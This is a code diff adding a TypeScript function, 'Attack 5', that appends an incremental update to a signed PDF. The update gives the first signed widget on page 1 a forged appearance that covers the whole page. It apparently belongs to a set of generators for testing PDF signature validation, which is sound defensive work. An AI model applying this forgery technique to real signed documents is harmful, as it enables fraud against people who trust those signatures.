@@ -330,3 +330,35 @@ export function replaceFormFont(input: Uint8Array): Uint8Array {
     return { objects };
   });
 }
+
+/** Attack 5: the first signed widget of page 1 given a new appearance that paints over the page. */
+export function replaceSignedAppearance(input: Uint8Array): Uint8Array {
+  return appendUpdate(input, (r, next) => {
+    const annots = r.resolve(r.page(0).dict.get('Annots'));
+    const widget = (Array.isArray(annots) ? annots : []).find(
+      (a) => a instanceof PdfRef && r.dict(r.dict(a)?.get('V'))?.has('ByteRange'),
+    );
+    if (!(widget instanceof PdfRef)) throw new Error('page 1 has no signed widget');
+    const ap = next();
+    return {
+      objects: [
+        {
+          num: ap,
+          value: WritableDict.of({
+            Type: name('XObject'),
+            Subtype: name('Form'),
+            BBox: [0, 0, 600, 800],
+            Length: FORGED.length,
+          }),
+          data: FORGED,
+        },
+        {
+          num: widget.num,
+          value: WritableDict.from(r.dict(widget)!)
+            .set('AP', WritableDict.of({ N: new PdfRef(ap, 0) }))
+            .set('Rect', [0, 0, 600, 800]),
+        },
+      ],
+    };
+  });
+}
